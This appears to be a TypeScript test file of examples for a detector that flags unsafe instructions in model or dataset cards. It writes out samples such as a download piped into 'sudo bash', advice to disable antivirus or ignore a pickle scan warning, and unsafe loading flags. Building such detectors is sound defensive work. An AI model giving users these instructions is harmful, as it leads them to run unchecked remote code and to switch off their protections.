// Examples of unsafe-card-instruction.
import type { Example } from "../../core/detector.ts";

const card = (title: string, finds: readonly string[], ...lines: readonly string[]): Example => ({
  title,
  given: { language: "card", text: `${lines.join("\n")}\n` },
  finds,
});
const PIPED = ["curl -sSL", "https://files.example.test/setup", "|", "sudo bash"].join(" ");

export const examples: readonly Example[] = [
  card("A download piped into a shell", ["4 medium"], "# Setup", "", "```", `$ ${PIPED}`, "```"),
  card("A virus scanner to switch off", ["1 medium"], "If loading fails, please disable your antivirus first."),
  card("A security check to pass over", ["1 medium"], "You can ignore the pickle scan warning on this page."),
  card("A check left out in a sample", ["2 low"], "```python", 'torch.load("model.bin", weights_only=False)', "```"),
  card("A script that loads itself", ["1 info"], 'load_dataset("example/a", trust_remote_code=True)'),
  card(
    "An installer that everybody knows",
    ["1 low"],
    ["curl -LsSf", "https://astral.sh/uv/install.sh", "|", "sh"].join(" "),
  ),
  card(
    "An ordinary card",
    [],
    "# Questions",
    "",
    "```python",
    "from datasets import load_dataset",
    'load_dataset("example/questions")',
    "```",
    "",
    "Never disable your firewall for a dataset.",
    "The firewall logs cover two weeks. Security checks at airports are one of the topics.",
  ),
];
